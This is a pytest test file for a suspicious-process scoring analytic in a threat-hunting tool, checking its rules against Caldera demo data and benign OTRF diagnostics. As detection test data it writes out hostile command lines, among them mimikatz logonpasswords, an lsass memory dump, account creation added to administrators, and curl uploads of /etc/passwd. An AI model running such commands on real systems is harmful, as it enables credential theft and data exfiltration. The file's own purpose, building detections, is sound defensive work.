"""susp_scoring: each rule family fires on a matching process and not on a benign one; the
seed's two processes score above 0.9; user rule files extend the rules; bad files fail in one
line."""
from __future__ import annotations

import json

import pandas as pd
import pytest

from conftest import shared_file
from stixgraph.analytics import susp_scoring as ss
from stixgraph.analytics.base import AnalyticError
from stixgraph.demo import caldera

BENIGN = [
    dict(name="svchost.exe", command_line=r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
         dir=r"C:\Windows\System32", parent="services.exe"),
    dict(name="explorer.exe", command_line=r"C:\Windows\Explorer.EXE", dir=r"C:\Windows",
         parent="userinit.exe"),
    dict(name="chrome.exe", command_line=r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer',
         dir=r"C:\Program Files\Google\Chrome\Application", parent="chrome.exe"),
    dict(name="OneDrive.exe", command_line=r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background',
         dir=r"C:\Users\bob\AppData\Local\Microsoft\OneDrive", parent="explorer.exe"),
    dict(name="cmd.exe", command_line=r"C:\Windows\system32\cmd.exe /d /c C:\Windows\system32\silcollector.cmd publish",
         dir=r"C:\Windows\System32", parent="svchost.exe"),
    dict(name="powershell.exe", command_line=r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"',
         dir=r"C:\Windows\System32\WindowsPowerShell\v1.0", parent="explorer.exe"),
    dict(name="curl.exe", command_line="curl.exe -s -o out.html https://example.com/",
         dir=r"C:\Windows\System32", parent="cmd.exe"),
    dict(name="7z.exe", command_line=r'"C:\Program Files\7-Zip\7z.exe" x backup.7z', dir=r"C:\Program Files\7-Zip",
         parent="explorer.exe"),
    dict(name="net.exe", command_line="net  use", dir=r"C:\Windows\System32", parent="explorer.exe"),
    dict(name="WINWORD.EXE", command_line=r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n a.docx',
         dir=r"C:\Program Files\Microsoft Office\root\Office16", parent="explorer.exe"),
]

# (rule id, a matching process, the same family's near miss)
FAMILIES = [
    ("account.create", dict(name="cmd.exe", command_line='cmd.exe /C net user /add "Alex" "coucou"'),
     dict(name="cmd.exe", command_line='cmd.exe /C net user "Alex"')),
    ("account.admin_group_add",
     dict(name="net.exe", command_line='net  localgroup administrators "Alex" /add'),
     dict(name="net.exe", command_line='net  localgroup administrators')),
    ("discovery.whoami", dict(name="whoami.exe", command_line=caldera.WHOAMI),
     dict(name="hostname.exe", command_line="hostname")),
    ("discovery.chained", dict(name="cmd.exe", command_line=caldera.CMD_T1016),
     dict(name="cmd.exe", command_line="cmd.exe /C ipconfig /all")),
    ("discovery.from_script",
     dict(name="ipconfig.exe", command_line="ipconfig  /all", parent_cl="cmd.exe /C ipconfig /all"),
     dict(name="ipconfig.exe", command_line="ipconfig  /all", parent_cl='"C:\\Windows\\system32\\cmd.exe"')),
    ("discovery.security_software", dict(name="WMIC.exe", command_line=caldera.WMIC_T1518),
     dict(name="WMIC.exe", command_line="wmic os get caption")),
    ("powershell.encoded",
     dict(name="powershell.exe", command_line="powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
     dict(name="powershell.exe", command_line="powershell.exe -ExecutionPolicy RemoteSigned -File a.ps1")),
    ("powershell.encoded",
     dict(name="powershell.exe", command_line="powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
     dict(name="powershell.exe", command_line="powershell -e")),
    ("powershell.download", dict(name="powershell.exe", command_line=caldera.PSH_LAZAGNE),
     dict(name="powershell.exe", command_line="powershell -c Invoke-WebRequest https://x/ | Out-Null")),
    ("exec.user_writable_dir",
     dict(name="LaZagne.exe", command_line="LaZagne.exe browsers", dir=caldera.STAGE),
     dict(name="OneDrive.exe", command_line="OneDrive.exe",
          dir=r"C:\Users\bob\AppData\Local\Microsoft\OneDrive")),
    ("exec.user_writable_dir",
     dict(name="a.exe", command_line="a.exe", dir=r"C:\Users\bob\AppData\Local\Temp\x"),
     dict(name="a.exe", command_line="a.exe", dir=r"C:\Program Files\A")),
    ("exec.user_writable_dir_cmdline", dict(name="cmd.exe", command_line=caldera.CMD_SHARPSHARES),
     dict(name="cmd.exe", command_line=r'"C:\Windows\system32\cmd.exe" /c "C:\Program Files\A\a.exe"')),
    ("office.spawns_shell", dict(name="powershell.exe", command_line="powershell -nop", parent="WINWORD.EXE"),
     dict(name="splwow64.exe", command_line="splwow64.exe 8192", parent="WINWORD.EXE")),
    ("credential.dumping", dict(name="cmd.exe", command_line=caldera.CMD_LAZAGNE),
     dict(name="cmd.exe", command_line="cmd /c dir C:\\Users\\bob\\Downloads")),
    ("credential.dumping",
     dict(name="m.exe", command_line='m.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
     dict(name="m.exe", command_line="m.exe privilege debug")),
    ("credential.dumping", dict(name="procdump64.exe", command_line="procdump64.exe -ma lsass.exe out.dmp"),
     dict(name="procdump64.exe", command_line="procdump64.exe -ma notepad.exe out.dmp")),
    ("tool.offensive", dict(name="SharpShares.exe", command_line=r"C:\x\SharpShares.exe /ldap:all"),
     dict(name="SharePoint.exe", command_line="SharePoint.exe")),
    ("archive.password", dict(name="7z.exe", command_line=caldera.SEVENZIP),
     dict(name="7z.exe", command_line=r'"C:\Program Files\7-Zip\7z.exe" a out.7z C:\data\*')),
    ("archive.password", dict(name="rar.exe", command_line="rar.exe a -hpSecret out.rar docs"),
     dict(name="rar.exe", command_line="rar.exe a out.rar docs")),
    ("archive.password", dict(name="zip", command_line="zip -P secret out.zip file"),
     dict(name="zip", command_line="zip -r out.zip dir")),
    ("exfil.curl_upload", dict(name="curl.exe", command_line=caldera._curl("ftp://u:p@h")),
     dict(name="curl.exe", command_line="curl.exe -o C:\\t\\a.zip https://h/a.zip")),
    ("exfil.curl_upload", dict(name="cmd.exe", command_line=caldera.CMD_FILEIO),
     dict(name="curl", command_line="curl -F name=value https://h/")),
    ("exfil.curl_upload", dict(name="curl", command_line="curl --upload-file ./db.sql https://h/"),
     dict(name="curl", command_line="curl https://h/upload-file")),
    ("exfil.curl_upload", dict(name="curl", command_line="curl -X POST --data-binary @/etc/passwd https://h/"),
     dict(name="curl", command_line="curl -X POST -d a=b https://h/")),
    ("system_dir.write",
     dict(name="dropper.exe", command_line="dropper.exe", written=[r"C:\Windows\System32\evil.dll"]),
     dict(name="TiWorker.exe", command_line="TiWorker.exe -Embedding",
          written=[r"C:\Windows\System32\ntdll.dll"])),
]


def frame(*procs: dict, **extra) -> pd.DataFrame:
    rows = []
    for i, p in enumerate(procs):
        r = {"id": f"process--{i:04d}", "type": "process", "pid": 100 + i, "name": p["name"],
             "command_line": p["command_line"], "binary_ref.name": p["name"]}
        if "dir" in p:
            r["binary_ref.parent_directory_ref.path"] = p["dir"]
        if "parent" in p:
            r["parent_ref.name"] = p["parent"]
        if "parent_cl" in p:
            r["parent_ref.command_line"] = p["parent_cl"]
        if "written" in p:
            r["x_written_files"] = p["written"]
        rows.append(r)
    return pd.DataFrame(rows).assign(**extra)


def scored(f: pd.DataFrame, **params) -> pd.DataFrame:
    res = ss.analytic([f], {k: str(v) for k, v in params.items()})
    out, = res.frames
    assert list(out.columns) == ["id", "x_suspicious_score", "x_suspicious_reasons"]
    assert list(out["id"]) == list(f["id"])
    assert out["x_suspicious_score"].between(0, 1).all()
    return out


@pytest.mark.parametrize("rule,hit,miss", FAMILIES, ids=[f"{r}-{i}" for i, (r, *_ ) in enumerate(FAMILIES)])
def test_rule_family_fires_on_match_only(rule, hit, miss):
    out = scored(frame(hit, miss))
    assert rule in out.loc[0, "x_suspicious_reasons"]
    assert rule not in out.loc[1, "x_suspicious_reasons"]
    assert out.loc[0, "x_suspicious_score"] > out.loc[1, "x_suspicious_score"]


def test_seed_processes_above_09_benign_below_03():
    seed = [dict(name="cmd.exe", command_line=caldera.CMD_T1136, dir=caldera.SYS32,
                 parent="splunkd.exe", parent_cl=caldera.SANDCAT_CMD),
            dict(name="whoami.exe", command_line=caldera.WHOAMI, dir=caldera.SYS32,
                 parent="powershell.exe", parent_cl=caldera.PSH_INTERACTIVE)]
    out = scored(frame(*seed, *BENIGN))
    assert out.loc[0, "x_suspicious_score"] > 0.9
    assert out.loc[0, "x_suspicious_reasons"] == ["account.create", "account.admin_group_add"]
    assert out.loc[0, "x_suspicious_score"] == pytest.approx(1 - 0.15 * 0.15)
    assert out.loc[1, "x_suspicious_score"] > 0.9
    assert out.loc[1, "x_suspicious_reasons"] == ["discovery.whoami"]
    assert (out["x_suspicious_score"][2:] < 0.3).all(), out[2:]
    assert out.loc[0, "x_suspicious_score"] > out.loc[1, "x_suspicious_score"]  # the seed's order


def test_demo_agent_commands_recognised():
    cmds = {"psh_lazagne": caldera.PSH_LAZAGNE, "psh_sharpshares": caldera.PSH_SHARPSHARES,
            "psh_7z": caldera.PSH_7Z, "psh_curl": caldera._psh_curl("ftp://u:p@h")}
    out = scored(frame(*[dict(name="powershell.exe", command_line=c) for c in cmds.values()]))
    reasons = dict(zip(cmds, out["x_suspicious_reasons"]))
    assert {"powershell.download", "credential.dumping"} <= set(reasons["psh_lazagne"])
    assert {"powershell.download", "tool.offensive"} <= set(reasons["psh_sharpshares"])
    assert "archive.password" in reasons["psh_7z"]
    assert "exfil.curl_upload" in reasons["psh_curl"]


def test_outliers_use_count_columns_or_skip():
    procs = [dict(name=f"p{i}.exe", command_line=f"p{i}.exe") for i in range(30)]
    counts = [1] * 29 + [400]
    out = scored(frame(*procs, x_connection_count=counts))
    assert out.loc[29, "x_suspicious_reasons"] == ["network.connection_outlier"]
    assert out.loc[29, "x_suspicious_score"] == pytest.approx(0.3)
    assert not any(out["x_suspicious_reasons"][:29].map(len))
    # no count column: the rule cannot fire
    assert not any(scored(frame(*procs))["x_suspicious_reasons"].map(len))
    # forks: children counted in the frame through parent_ref.id
    f = frame(*procs)
    f["parent_ref.id"] = [None] * 5 + ["process--0000"] * 20 + [f"process--{i:04d}" for i in range(1, 6)]
    out = scored(f)
    assert out.loc[0, "x_suspicious_reasons"] == ["process.fork_outlier"]
    assert sum(map(len, out["x_suspicious_reasons"])) == 1


def test_user_rules_extend_and_replace(tmp_path):
    user = tmp_path / "mine.yaml"
    user.write_text("""
rules:
  - id: local.notepad_tmp
    description: notepad opening files in /tmp
    weight: 0.4
    when: {all: [{field: image, equals: notepad.exe}, {field: command_line, glob: '*\\tmp\\*'}]}
  - id: discovery.whoami       # a built-in id: replaces it
    description: whoami, toned down
    weight: 0.5
    when: {field: command_line, contains: whoami}
""")
    f = frame(dict(name="notepad.exe", command_line=r"notepad.exe C:\tmp\a.txt"),
              dict(name="whoami.exe", command_line=caldera.WHOAMI),
              dict(name="cmd.exe", command_line=caldera.CMD_T1136))
    out = scored(f, rules=user)
    assert out.loc[0, "x_suspicious_reasons"] == ["local.notepad_tmp"]
    assert out.loc[0, "x_suspicious_score"] == pytest.approx(0.4)
    assert out.loc[1, "x_suspicious_score"] == pytest.approx(0.5)
    assert out.loc[2, "x_suspicious_score"] > 0.9  # built-ins still there
    out = scored(f, rules=user, mode="replace")
    assert list(out["x_suspicious_reasons"]) == [["local.notepad_tmp"], ["discovery.whoami"], []]
    # JSON rule files work the same
    js = tmp_path / "mine.json"
    js.write_text(json.dumps({"rules": [{"id": "j", "description": "d", "weight": 1,
                                         "when": {"field": "name", "equals": "cmd.exe"}}]}))
    assert list(scored(f, rules=js, mode="replace")["x_suspicious_score"]) == [0, 0, 1]


@pytest.mark.parametrize("body,message", [
    ("rules:\n  - id: r1\n    description: d\n    weight: 2\n    when: {field: name, equals: a}\n",
     "rule 'r1': 'weight' must be a number between 0 and 1, not 2"),
    ("rules:\n  - id: r2\n    description: d\n    weight: 0.5\n    when: {field: name, regex: '('}\n",
     "rule 'r2': bad regex '('"),
    ("rules:\n  - id: r3\n    description: d\n    weight: 0.5\n    when: {field: name, like: a}\n",
     "rule 'r3': unknown key(s) like in a condition"),
    ("rules:\n  - id: r4\n    description: d\n    weight: 0.5\n",
     "rule 'r4': a rule needs exactly one of 'when' or 'outlier'"),
    ("rules:\n  - description: d\n    weight: 0.5\n    when: {field: name, equals: a}\n",
     "rule #1: 'id' must be"),
    ("rules: [\n", "not valid YAML"),
])
def test_malformed_rule_file_one_line_error(tmp_path, body, message):
    p = tmp_path / "bad.yaml"
    p.write_text(body)
    with pytest.raises(AnalyticError) as e:
        ss.analytic([frame(BENIGN[0])], {"rules": str(p)})
    msg = str(e.value)
    assert "\n" not in msg and str(p) in msg and message in msg, msg


def test_bad_input():
    with pytest.raises(AnalyticError, match="no such rule file"):
        ss.analytic([frame(BENIGN[0])], {"rules": "/nonexistent/r.yaml"})
    with pytest.raises(AnalyticError, match="not process"):
        ss.analytic([pd.DataFrame({"id": ["ipv4-addr--1"], "type": ["ipv4-addr"]})], {})
    with pytest.raises(AnalyticError, match="no id column"):
        ss.analytic([pd.DataFrame({"name": ["a"]})], {})


def test_builtin_rules_load_and_are_documented():
    rules = ss.load_rules()
    ids = [r.id for r in rules]
    assert len(ids) == len(set(ids)) >= 15
    assert all(r.description and 0 < r.weight <= 1 for r in rules)
    assert ss.BUILTIN_RULES.read_text().startswith("# Rules of the susp_scoring analytic")


# -- on real data: the demo scenario and OTRF's benign diagnostics, loaded together ----------

#: OTRF's Empire run-key dataset: around the attack, the Azure guest agent's diagnostics
#: script (cscript.exe, as the machine account) runs cmd /c ipconfig /all, arp -a, nbtstat,
#: net config rdr/srv, netsh, reg, sc, certutil, wevtutil: recon look-alikes, benign.
OTRF_DIAGNOSTICS = ("atomic__windows__persistence__host__empire_persistence_"
                    "registry_modification_run_keys_standard_user.zip")
RECON_LOOKALIKES = {"cscript.exe", "cmd.exe", "ipconfig.exe", "arp.exe", "nbtstat.exe",
                    "net.exe", "net1.exe", "netsh.exe", "reg.exe", "sc.exe", "certutil.exe",
                    "wevtutil.exe"}
# the seed's cell, over both datasets' time ranges (OTRF's is 2020-09)
HUNT = r"""
procs = GET process FROM stixshifter://splunk
WHERE [process:binary_ref.name MATCHES '.+\.(exe|dll|bat)$' AND process:binary_ref.name != 'powershell.exe'] START t'2020-09-01T00:00:00Z' STOP t'2024-12-24T00:00:00Z'
APPLY docker://susp_scoring ON procs
DISP TIMESTAMPED(procs) ATTR first_observed, pid, name, command_line, x_suspicious_score
"""


@pytest.fixture(scope="module")
def ranked():
    """(first_observed, pid, name, command_line, score) of every process observation, the demo
    scenario's and OTRF's, served by the Splunk emulator and scored in one APPLY."""
    diagnostics = shared_file("otrf", OTRF_DIAGNOSTICS)  # skips, saying why, when absent
    from stixgraph.demo import run as demo_run
    from stixgraph.display import Table
    from stixgraph.session import Session
    from stixgraph.splunk import cim

    rows = [*caldera.iter_cim_rows(caldera.DEFAULT_SIZE, caldera.DEFAULT_SEED),
            *cim.iter_cim_rows([diagnostics])]
    with pytest.MonkeyPatch.context() as mp, demo_run.demo_splunk(0, 0, rows=rows):
        mp.setenv("STIXGRAPH_CONFIG", "/nonexistent/none.toml")
        session = Session(":memory:", now=caldera.DEMO_NOW)
        try:
            table, = [d for d in session.iter_run(HUNT, "ranked.hf") if isinstance(d, Table)]
        finally:
            session.store.close()
    return [tuple(r) for r in table.rows]


def test_demo_attack_ranks_highest(ranked):
    demo = [r for r in ranked if r[0].startswith("2024-")]
    score = {r[3]: r[4] for r in demo}
    seed = min(score[caldera.CMD_T1136], score[caldera.WHOAMI])
    assert seed > 0.9
    # above the seed's two: only the credential dumping (LaZagne.exe and the cmd.exe that ran
    # it), which Kestrel's scorer missed; every other process of the scenario is below
    above = {c for c, s in score.items() if s >= seed} - {caldera.CMD_T1136, caldera.WHOAMI}
    assert all("LaZagne.exe" in c for c in above), above
    assert len(demo) > 1000 and sum(s >= seed for s in score.values()) <= 4


def test_benign_diagnostics_rank_below_the_attack(ranked):
    benign = [r for r in ranked if r[0].startswith("2020-") and r[2].lower() in RECON_LOOKALIKES]
    assert len({r[2].lower() for r in benign}) >= 8, benign  # the look-alikes are loaded
    demo = {r[3]: r[4] for r in ranked if r[0].startswith("2024-")}
    worst = max(r[4] for r in benign)
    assert worst < min(demo[caldera.CMD_T1136], demo[caldera.WHOAMI])
    assert worst <= 0.9  # none reaches the seed's procs_sus
    # the attack's own recon (Caldera's T1016: ipconfig && netsh && arp in one cmd /c) is
    # told apart from the look-alike
    t1016 = [s for c, s in demo.items() if "ipconfig /all && netsh" in (c or "")]
    assert t1016 and min(t1016) > worst
